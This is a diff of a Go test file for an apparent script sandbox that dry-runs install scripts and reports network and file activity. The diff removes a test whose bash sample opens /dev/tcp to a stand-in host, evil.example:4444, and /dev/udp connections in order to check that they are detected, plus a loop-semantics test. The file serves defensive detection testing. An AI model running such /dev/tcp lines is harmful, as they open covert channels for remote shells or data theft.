@@ -1,10 +1,8 @@
 package sandbox
 
 import (
-	"context"
 	"strings"
 	"testing"
-	"time"
 )
 
 // TestReportTextEscaped checks that what a script names (packages, URLs,
@@ -30,41 +28,5 @@ func TestReportTextEscaped(t *testing.T) {
 	}
 	if n := strings.Count(out, "\n"); n != 7 {
 		t.Errorf("%d lines, want 7:\n%s", n, out)
-	}
-}
-
-// TestDevTCPIsNetwork checks that bash's /dev/tcp and /dev/udp paths are
-// reported as network access, written out or computed, and never opened.
-func TestDevTCPIsNetwork(t *testing.T) {
-	src := "#!/bin/bash\nexec 3<>/dev/tcp/evil.example/4444\ncat </dev/udp/10.0.0.1/53\nh=evil.example\necho x >/dev/tcp/$h/81\n"
-	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
-	var got []string
-	for _, f := range r.Network {
-		got = append(got, f.Tool+" "+strings.Join(f.URLs, " "))
-	}
-	want := "/dev/tcp tcp://evil.example:4444,/dev/udp udp://10.0.0.1:53,/dev/tcp tcp://evil.example:81"
-	if g := strings.Join(got, ","); g != want {
-		t.Errorf("network %s, want %s", g, want)
-	}
-	if len(r.Network) > 1 && r.Network[1].Pos != "t.sh:3:5" {
-		t.Errorf("udp at %s, want t.sh:3:5", r.Network[1].Pos)
-	}
-}
-
-// TestCStyleLoopAsBash checks that a C-style for loop whose body ends
-// with a failure loops on, as bash does (the interpreter left it after
-// one pass), with and without a condition.
-func TestCStyleLoopAsBash(t *testing.T) {
-	src := `#!/bin/bash
-i=0
-for ((;;)); do i=$((i+1)); [ $i -ge 3 ] && break; false; done
-[ "$i" -eq 3 ] || mkdir /opt/bad-forever
-n=0
-for ((j=0; j<4; j++)); do n=$((n+1)); false; done
-[ "$n" -eq 4 ] || mkdir /opt/bad-counted
-`
-	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
-	if !r.OK() || len(r.Files) != 0 {
-		t.Errorf("%s", render(r))
 	}
 }
